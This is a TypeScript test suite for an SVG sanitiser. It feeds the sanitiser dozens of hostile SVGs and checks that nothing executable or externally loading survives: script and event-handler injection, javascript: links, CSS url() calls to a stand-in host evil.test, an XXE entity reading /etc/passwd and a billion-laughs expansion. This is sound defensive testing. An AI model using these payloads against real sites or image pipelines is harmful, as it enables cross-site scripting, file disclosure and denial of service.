import assert from 'node:assert/strict';
import { test } from 'node:test';
import * as fc from 'fast-check';
import { SaxesParser } from 'saxes';
import sharp from 'sharp';
import { Problem } from '#platform/problem.ts';
import { sanitizeSvg } from './svg.ts';

const drawing = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="60" ${attributes}>${inner}</svg>`;
const sanitize = async (svg: string) => (await sanitizeSvg(Buffer.from(svg))).toString();
const code = async (svg: string | Buffer) => {
  try {
    await sanitizeSvg(Buffer.from(svg));
    return 'taken';
  } catch (error) {
    if (error instanceof Problem) return error.code;
    throw error;
  }
};
const draw = (svg: string | Buffer) => sharp(Buffer.from(svg)).ensureAlpha().raw().toBuffer();

/** Everything that could run, load or tell something, found by reading the result once more as XML. */
function dangers(svg: string): string[] {
  const found: string[] = [];
  const parser = new SaxesParser({ xmlns: true });
  const note = (danger: string) => void found.push(danger);
  parser.on('error', (error) => note(`not well-formed: ${error.message}`));
  parser.on('comment', note);
  parser.on('processinginstruction', ({ target }) => note(target));
  parser.on('doctype', note);
  parser.on('opentag', ({ name, uri, attributes }) => {
    if (uri !== 'http://www.w3.org/2000/svg') note(`<${name}> of ${uri}`);
    if (/script|foreign|handler|iframe|embed|object|audio|video|canvas|metadata|html|cursor|font/i.test(name))
      note(`<${name}>`);
    for (const { name: attribute, value } of Object.values(attributes)) {
      if (attribute !== 'xmlns' && attribute.includes(':') && !/^xml:(?:lang|space)$/.test(attribute))
        note(attribute);
      if (/^on/i.test(attribute)) note(attribute);
      if (attribute === 'href' && !/^(?:#|data:image\/(?:png|jpeg|gif|webp);base64,)/.test(value))
        note(value);
      if (attribute !== 'xmlns' && attribute !== 'href') noteText(value);
      if (attribute === 'attributeName' && /href|style|^on/i.test(value)) note(value);
    }
  });
  let text = '';
  const noteText = (value: string) => {
    const bare = value.replaceAll(/url\(["']?#[\w-]+["']?\)/g, '');
    if (
      /url\(|image-set|image\(|src\(|attr\(|@import|@font-face|javascript:|data:|https?:|expression|-moz-binding|\\|EVIL/i.test(
        bare,
      )
    ) {
      note(value);
    }
  };
  let element = '';
  parser.on('opentagstart', ({ name }) => void (element = name));
  parser.on('text', (part) => void (text += element === 'style' ? part : ''));
  parser.write(svg).close();
  noteText(text);
  return found;
}

const png =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGP4z8DwHwAFAAH/iZk9HQAAAABJRU5ErkJggg==';

/** Each with what has to be gone; all of them can still be drawn. */
const attacks: Readonly<Record<string, string>> = {
  script: drawing('<script>EVIL()</script>'),
  'script in CDATA': drawing('<script><![CDATA[EVIL()]]></script>'),
  'script by address': drawing('<script href="https://evil.test/EVIL.js"/>'),
  'script with a prefix': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>EVIL()</s:script></s:svg>`,
  'script of XHTML': drawing('<h:script xmlns:h="http://www.w3.org/1999/xhtml">EVIL()</h:script>'),
  'script within a dropped element': drawing('<foo><script>EVIL()</script></foo>'),
  'script in title': drawing('<title><script>EVIL()</script></title>'),
  'script in style': drawing('<style><script>EVIL()</script></style>'),
  'script after a made-up end of style': drawing(
    '<style>&lt;/style&gt;&lt;script&gt;EVIL()&lt;/script&gt;</style>',
  ),
  'handler on the root': drawing('', 'onload="EVIL()"'),
  'handler on a shape': drawing('<rect onclick="EVIL()" onmouseover="EVIL()"/>'),
  'handler of an animation': drawing('<animate onbegin="EVIL()" attributeName="x" dur="1s"/>'),
  'handler in capitals': drawing('<rect ONCLICK="EVIL()"/>'),
  'handler with a prefix': drawing('<rect x:onclick="EVIL()" xmlns:x="urn:x"/>'),
  'handler element': drawing('<handler type="text/javascript">EVIL()</handler>'),
  'handler of XML Events': drawing(
    '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#EVIL"/>',
  ),
  'link that runs': drawing('<a href="javascript:EVIL()"><text>x</text></a>'),
  'link that runs, spelled oddly': drawing('<a xlink:href="java&#9;script:EVIL()"><text>x</text></a>'),
  'link to elsewhere': drawing('<a href="https://evil.test/EVIL"><rect/></a>'),
  'link to data': drawing('<a href="data:text/html,EVIL"><rect/></a>'),
  'link of another prefix': drawing('<a l:href="javascript:EVIL()" xmlns:l="http://www.w3.org/1999/xlink"/>'),
  'animated link': drawing('<a><set attributeName="href" to="javascript:EVIL()"/></a>'),
  'animated xlink': drawing('<a><animate attributeName="xlink:href" values="javascript:EVIL();#"/></a>'),
  'animated handler': drawing('<set attributeName="onclick" to="EVIL()"/>'),
  'animated style': drawing('<set attributeName="style" to="fill:url(https://evil.test/EVIL)"/>'),
  'animation to an address': drawing('<animate attributeName="fill" to="url(https://evil.test/EVIL)"/>'),
  foreignObject: drawing(
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="EVIL()"/></foreignObject>',
  ),
  iframe: drawing('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.test/EVIL"/>'),
  'media elements': drawing(
    '<audio src="https://evil.test/EVIL"/><video src="https://evil.test/EVIL"/><canvas/>',
  ),
  'picture from elsewhere': drawing('<image href="https://evil.test/EVIL.png"/>'),
  'picture from elsewhere by xlink': drawing('<image xlink:href="//evil.test/EVIL.png"/>'),
  'picture from the disk': drawing(
    '<image href="file:///etc/passwd"/><image href="/etc/EVIL"/><image href="EVIL.png"/>',
  ),
  'picture that is SVG': drawing('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
  'picture that is HTML by content': drawing('<image href="data:image/png;base64,PGh0bWw+"/>'),
  'filter picture from elsewhere': drawing(
    '<filter id="f"><feImage href="https://evil.test/EVIL"/></filter>',
  ),
  'copy from elsewhere': drawing('<use href="https://evil.test/EVIL.svg#a"/>'),
  'copy from data': drawing('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'),
  'copy of a picture as data': drawing(`<use href="data:image/png;base64,${png}"/>`),
  'gradient from elsewhere': drawing('<linearGradient href="https://evil.test/EVIL#g"/>'),
  'text path from elsewhere': drawing('<text><textPath href="https://evil.test/EVIL#p">x</textPath></text>'),
  'fill from elsewhere': drawing('<rect fill="url(https://evil.test/EVIL)"/>'),
  'fill from elsewhere, quoted': drawing(`<rect fill="url('https://evil.test/EVIL#g')"/>`),
  'mask, clip, marker and filter from elsewhere': drawing(
    '<rect mask="url(//evil.test/EVIL)" clip-path="url(EVIL.svg#c)" marker-start="URL(EVIL#m)" filter="url( EVIL )"/>',
  ),
  'cursor from elsewhere': drawing('<rect cursor="url(https://evil.test/EVIL), auto"/>'),
  'style from elsewhere': drawing('<rect style="fill:red;background:url(https://evil.test/EVIL)"/>'),
  'style spelled with backslashes': drawing('<rect style="fill:u\\72l(https://evil.test/EVIL)"/>'),
  'style spelled with a comment': drawing('<rect style="fill:ur/**/l(https://evil.test/EVIL);/*EVIL*/"/>'),
  'style that binds': drawing(
    '<rect style="-moz-binding:url(EVIL);behavior:url(EVIL);width:expression(EVIL())"/>',
  ),
  'style by variable': drawing('<rect style="--a:url(https://evil.test/EVIL);fill:var(--a)"/>'),
  'style by other functions': drawing(
    '<rect style="mask:image-set(&quot;https://evil.test/EVIL&quot; 1x);fill:src(&quot;EVIL&quot;);cursor:image(EVIL)"/>',
  ),
  'style that leaves its declaration': drawing(
    '<rect style="fill:red}*{background:url(https://evil.test/EVIL)"/>',
  ),
  import: drawing('<style>@import "https://evil.test/EVIL.css"; rect{fill:red}</style>'),
  'import by url': drawing('<style>@import url(https://evil.test/EVIL.css);</style>'),
  'import with a backslash': drawing('<style>@\\69mport "https://evil.test/EVIL.css";</style>'),
  'font from elsewhere': drawing('<style>@font-face{font-family:a;src:url(https://evil.test/EVIL)}</style>'),
  'sheet rule from elsewhere': drawing('<style>rect{fill:url(https://evil.test/EVIL)}</style>'),
  'sheet rule in @media': drawing('<style>@media all{rect{fill:url(https://evil.test/EVIL);x:1}}</style>'),
  'sheet in CDATA': drawing('<style><![CDATA[ rect{background:url("https://evil.test/EVIL")} ]]></style>'),
  'sheet with an unclosed string': drawing(
    `<style>a{font-family:"x\n} b{fill:url(https://evil.test/EVIL)} c{x:"}</style>`,
  ),
  'sheet with brackets in an address': drawing(
    '<style>a{fill:url(https://evil.test/EVIL;b{fill:red})}</style>',
  ),
  'sheet with attribute spying': drawing('<style>[id^="a"]{background:url(//evil.test/EVIL)}</style>'),
  'style sheet instruction': `<?xml-stylesheet href="https://evil.test/EVIL.css"?>${drawing('')}`,
  'link element': drawing(
    '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.test/EVIL"/>',
  ),
  'base address': drawing('<rect/>', 'xml:base="https://evil.test/EVIL/"'),
  comment: `<!-- EVIL -->${drawing('<!-- EVIL --><rect/>')}<!-- EVIL -->`,
  'comment that a HTML reader ends early': drawing(
    '<style>&lt;!--</style><text title="--&gt;&lt;img src=x onerror=EVIL()&gt;">x</text>',
  ),
  metadata: drawing(
    '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">EVIL</rdf:RDF></metadata>',
  ),
  'editor namespaces': drawing(
    '<s:namedview xmlns:s="urn:sodipodi" s:docname="/home/EVIL.svg"/><g xmlns:i="urn:inkscape" i:label="EVIL"/>',
  ),
  "editor's note": drawing('<desc>Created with EVIL 1.0</desc><title>Generated by EVIL</title>'),
  'data attributes': drawing('<rect data-name="EVIL" data-href="EVIL"/>'),
  'text of another namespace': drawing(
    '<x:text xmlns:x="urn:x">EVIL</x:text><x:g xmlns:x="urn:x"><rect class="EVIL"/></x:g>',
  ),
  'text where none is drawn': drawing('<g>EVIL<rect>EVIL</rect></g>EVIL'),
  'document type': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.test/EVIL.dtd">${drawing('<rect/>')}`,
  'entity as attribute': `<!DOCTYPE svg [<!ENTITY a "javascript:EVIL()">]>${drawing('<a href="&a;"/><rect onclick="&a;"/>')}`,
  'properties of every object': drawing(
    '<rect __proto__="EVIL" constructor="EVIL" toString="EVIL"/><constructor/>',
  ),
  'discard and handlers of time': drawing(
    '<discard begin="EVIL"/><animate attributeName="href" begin="0s" to="EVIL"/>',
  ),
};

void test('nothing that could run, load or tell something comes out of a sanitised SVG', async (t) => {
  for (const [name, svg] of Object.entries(attacks)) {
    await t.test(name, async () => {
      assert.ok(svg.includes('EVIL') || dangers(svg).length > 0, 'there is an attack to be seen');
      const result = await sanitize(svg);
      assert.deepEqual(dangers(result), []);
      assert.ok(!result.includes('EVIL') && !result.includes('evil'), result);
      assert.equal(await sanitize(result), result, 'sanitising once more changes nothing');
    });
  }
});

const gradient =
  '<linearGradient id="g"><stop stop-color="red"/><stop offset="1" stop-color="#00f"/></linearGradient>';
const harmless: Readonly<Record<string, string>> = {
  shapes: drawing(
    '<rect x="5" y="5" width="9" height="9" rx="2" fill="teal"/><circle cx="30" cy="30" r="9" stroke="red"/>',
  ),
  'path and polygon': drawing(
    '<path d="M5 5h20v20z" fill="none" stroke="#080" stroke-width="2"/><polygon points="1,1 9,40 40,9"/>',
  ),
  gradient: drawing(`<defs>${gradient}</defs><rect width="60" height="60" fill="url(#g)"/>`),
  'gradient that refers to another': drawing(
    `<defs>${gradient}<radialGradient id="r" xlink:href="#g"/></defs><rect width="60" height="60" fill="url('#r')"/>`,
  ),
  text: drawing(
    '<text x="5" y="30" font-family="sans-serif" font-size="20" xml:space="preserve">a <tspan fill="red">b &amp; c</tspan></text>',
  ),
  mask: drawing(
    '<mask id="m"><circle cx="30" cy="30" r="20" fill="#fff"/></mask><rect width="60" height="60" mask="url(#m)"/>',
  ),
  'clip path': drawing(
    '<clipPath id="c"><circle cx="30" cy="30" r="20"/></clipPath><rect width="60" height="60" clip-path="url(#c)"/>',
  ),
  pattern: drawing(
    '<pattern id="p" width="6" height="6" patternUnits="userSpaceOnUse"><circle cx="3" cy="3" r="2"/></pattern><rect width="60" height="60" fill="url(#p)"/>',
  ),
  marker: drawing(
    '<marker id="k" markerWidth="4" markerHeight="4"><rect width="4" height="4"/></marker><path d="M9 9L40 40" stroke="red" marker-end="url(#k)"/>',
  ),
  filter: drawing(
    '<filter id="f"><feGaussianBlur stdDeviation="2" result="b"/><feMerge><feMergeNode in="b"/><feMergeNode in="SourceGraphic"/></feMerge></filter><rect x="20" y="20" width="20" height="20" filter="url(#f)"/>',
  ),
  'local copies': drawing(
    '<defs><symbol id="s" viewBox="0 0 9 9"><rect width="9" height="9"/></symbol></defs><use href="#s" width="20" height="20"/><use xlink:href="#s" x="30" width="9" height="9"/>',
  ),
  'style attribute': drawing(
    '<rect width="40" height="40" style="fill:#f80;stroke:rgb(0,0,0);stroke-width:3"/>',
  ),
  'style sheet': drawing(
    '<style>/* a */ .a{fill:lime} #b>rect, g rect:first-child{stroke:blue}</style><g id="b"><rect class="a" x="5" y="5" width="30" height="30"/></g>',
  ),
  'style sheet in CDATA': drawing(
    `<style><![CDATA[.a { fill: url("#g") }]]></style>${gradient}<rect class="a" width="60" height="60"/>`,
  ),
  'small picture within': drawing(
    `<image x="5" y="5" width="30" height="30" href="data:image/png;base64,${png}"/>`,
  ),
  switch: drawing(
    '<switch><rect requiredExtensions="urn:none" width="9" height="9"/><rect width="30" height="30" fill="red"/></switch>',
  ),
  'nested drawing and transform': drawing(
    '<svg x="9" y="9" viewBox="0 0 2 2" width="20" height="20"><rect width="1" height="1" transform="rotate(30)"/></svg>',
  ),
  'a view box':
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20" preserveAspectRatio="none"><rect width="20" height="20"/></svg>',
  'entities for namespaces': `<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg"><!ENTITY c "red">]><svg xmlns="&ns;" width="20" height="20"><rect width="9" height="9" fill="&c;"/></svg>`,
};

void test('a harmless drawing looks the same', async (t) => {
  for (const [name, svg] of Object.entries(harmless)) {
    await t.test(name, async () => {
      const result = await sanitize(svg);
      assert.deepEqual(await draw(result), await draw(svg));
      assert.ok(
        (await draw(svg)).some((byte) => byte !== 0),
        'something is drawn',
      );
    });
  }
});

void test('names may carry a prefix, and a drawing without namespace is taken for SVG', async () => {
  const plain = '<svg xmlns="http://www.w3.org/2000/svg" width="20"><rect width="9"></rect></svg>';
  const prefixed = '<s:svg xmlns:s="http://www.w3.org/2000/svg" width="20"><s:rect width="9"/></s:svg>';
  assert.equal(await sanitize(prefixed), plain);
  assert.equal(await sanitize('<svg width="20"><rect width="9"/></svg>'), plain);
});

void test('titles, animations and other languages stay', async () => {
  const inner =
    '<title>Ein Haus — 家</title><rect width="9"><animate attributeName="x" values="0;9" dur="1s" repeatCount="indefinite"></animate></rect>' +
    '<text xml:lang="ja" aria-label="&quot;家&quot;">家 &lt;1&gt;</text>';
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" role="img">${inner}</svg>`;
  assert.equal(await sanitize(svg), svg);
});

void test('a drawing may be encoded in UTF-8 or UTF-16, with or without saying so', async () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><text>Ä</text></svg>';
  const encodings = [
    Buffer.from(`\uFEFF${svg}`),
    Buffer.from(`\uFEFF${svg}`, 'utf16le'),
    Buffer.from(`\uFEFF${svg}`, 'utf16le').swap16(),
    Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>${svg}`, 'latin1'),
    Buffer.from(`<?xml version="1.0" encoding="utf-8"?>${svg}`),
  ];
  for (const bytes of encodings) assert.equal((await sanitizeSvg(bytes)).toString(), svg);
});

const copies = (times: number) =>
  Array.from(
    { length: times },
    (_, level) => `<g id="l${level + 1}">${`<use href="#l${level}"/>`.repeat(10)}</g>`,
  ).join('');
const laughs = (times: number) =>
  Array.from({ length: times }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join(
    '',
  );

void test('what is no SVG, or would cost too much to draw, is refused with the reason', async (t) => {
  const cases: readonly [string, string | Buffer, string][] = [
    ['nothing', '', 'not-svg'],
    ['HTML', '<!doctype html><html><svg xmlns="http://www.w3.org/2000/svg"/></html>', 'not-svg'],
    ['another XML', '<?xml version="1.0"?><rss/>', 'not-svg'],
    ['an svg of another namespace', '<svg xmlns="urn:x"/>', 'not-svg'],
    ['bytes', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0xff]), 'not-svg'],
    ['an unknown encoding', '<?xml version="1.0" encoding="UTF-7"?><svg/>', 'not-svg'],
    ['packed', Buffer.from([0x1f, 0x8b, 8, 0]), 'not-svg'],
    ['an element left open', '<svg xmlns="http://www.w3.org/2000/svg"><g></svg>', 'svg-malformed'],
    ['two roots', `${drawing('')}${drawing('')}`, 'svg-malformed'],
    ['an unknown entity', drawing('<text>&nbsp;</text>'), 'svg-malformed'],
    [
      'an entity from a file',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${drawing('<text>&x;</text>')}`,
      'svg-malformed',
    ],
    [
      'entities of entities',
      `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs(9)}]>${drawing('<text>&l9;</text>')}`,
      'svg-malformed',
    ],
    [
      'one entity very often',
      `<!DOCTYPE svg [<!ENTITY x "${'x'.repeat(190)}">]>${drawing(`<text>${'&x;'.repeat(20_000)}</text>`)}`,
      'svg-malformed',
    ],
    [
      'a view box without size',
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 10"/>',
      'svg-malformed',
    ],
    ['a huge side', '<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="1"/>', 'svg-too-large'],
    ['many bytes', `${drawing('')}${' '.repeat(5_000_000)}`, 'svg-too-large'],
    ['copies of copies', drawing(`<rect id="l0"/>${copies(9)}<use href="#l9"/>`), 'svg-too-complex'],
    [
      'patterns in patterns',
      drawing(
        Array.from(
          { length: 9 },
          (_, level) =>
            `<pattern id="p${level + 1}">${`<rect fill="url(#p${level})"/>`.repeat(10)}</pattern>`,
        ).join('') + '<rect fill="url(#p9)"/>',
      ),
      'svg-too-complex',
    ],
    [
      'patterns in patterns by style sheet',
      drawing(
        `<style>${Array.from({ length: 9 }, (_, level) => `.c${level + 1}{fill:url(#p${level})}`).join('')}</style>` +
          Array.from(
            { length: 9 },
            (_, level) => `<pattern id="p${level}">${`<rect class="c${level}"/>`.repeat(10)}</pattern>`,
          ).join('') +
          '<rect class="c9"/>',
      ),
      'svg-too-complex',
    ],
    [
      'a dear filter many times',
      drawing(`<filter id="f"><feMorphology radius="9"/></filter>${'<rect filter="url(#f)"/>'.repeat(100)}`),
      'svg-too-complex',
    ],
    [
      'a marker on very many corners',
      drawing(
        `<marker id="m">${'<rect/>'.repeat(100)}</marker><path marker-mid="url(#m)" d="M0 0${' 1 1'.repeat(50_000)}"/>`,
      ),
      'svg-too-complex',
    ],
    ['many elements', drawing('<g/>'.repeat(100_001)), 'svg-too-complex'],
    ['deep elements', drawing(`${'<g>'.repeat(300)}${'</g>'.repeat(300)}`), 'svg-too-complex'],
    ['deep unknown elements', drawing(`${'<x>'.repeat(300)}${'</x>'.repeat(300)}`), 'svg-too-complex'],
    [
      'a long chain of copies',
      drawing(
        `<rect id="a0"/>${Array.from(
          { length: 400 },
          (_, index) => `<use id="a${index + 1}" href="#a${index}"/>`,
        )
          .toReversed()
          .join('')}`,
      ),
      'svg-too-complex',
    ],
  ];
  for (const [name, svg, expected] of cases) {
    await t.test(name, async () => {
      const start = performance.now();
      assert.equal(await code(svg), expected);
      assert.ok(performance.now() - start < 2_000);
    });
  }
});

void test('of a style sheet only what every reader takes alike stays', async () => {
  const cases: readonly [string, string][] = [
    ['a{fill:rgb(1}b{fill:red}', 'b{fill:red}'],
    ['a{fill:r\\65 d;stroke:red}', 'a{stroke:red}'],
    ['a\\{b{fill:red}c{fill:red}}d{fill:red}', 'd{fill:red}'],
    ['a{fill:red', ''],
    ['/* a */ a /* { */ { fill /* : */ : red; }', 'a{fill:red}'],
    ['a{font-family:"b;c"}', 'a{font-family:"b;c"}'],
    ['a{font-family:"b;}c"}d{fill:red}', 'd{fill:red}'],
    ['@charset "x";@namespace x;a{fill:red!important;foo:bar}', 'a{fill:red!important}'],
    ['@media (min-width: 9px){a{fill:red}}', '@media (min-width: 9px){a{fill:red}}'],
    ['@keyframes k{0%{fill:red}to{opacity:0}}', '@keyframes k{0%{fill:red}\nto{opacity:0}}'],
    ['@supports (x:y){a{fill:red}}', ''],
  ];
  for (const [given, kept] of cases) {
    const svg = (css: string) =>
      `<svg xmlns="http://www.w3.org/2000/svg">${css === '' ? '' : `<style>${css}</style>`}</svg>`;
    assert.equal(await sanitize(svg(given)), svg(kept));
  }
});

void test('circles of references are taken: who draws them stops there', async () => {
  assert.equal(
    await code(drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g><use href="#a"/>')),
    'taken',
  );
});

void test('whatever the text, the result is harmless or there is a reason', async () => {
  // As text or class the mark is nothing bad.
  const whole = [...Object.values(attacks), ...Object.values(harmless)].map((svg) =>
    svg.replaceAll('EVIL', 'e'),
  );
  const pieces = whole.flatMap((svg) => svg.match(/<[^>]*>|[^<]+/g) ?? []);
  const text = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 5 })), { maxLength: 12 });
  const closed = text.map((parts) =>
    drawing(
      parts
        .filter((part) => !/^<\/|<!|<\?|svg/.test(part))
        .map((part) => part.replace(/([^/])>$/, '$1/>'))
        .join(''),
    ),
  );
  await fc.assert(
    fc.asyncProperty(
      fc.oneof(
        closed,
        text.map((parts) => parts.join('')),
      ),
      async (svg) => {
        try {
          assert.deepEqual(dangers(await sanitize(svg)), []);
        } catch (error) {
          assert.ok(error instanceof Problem, String(error));
        }
      },
    ),
    { numRuns: 1_000 },
  );
});
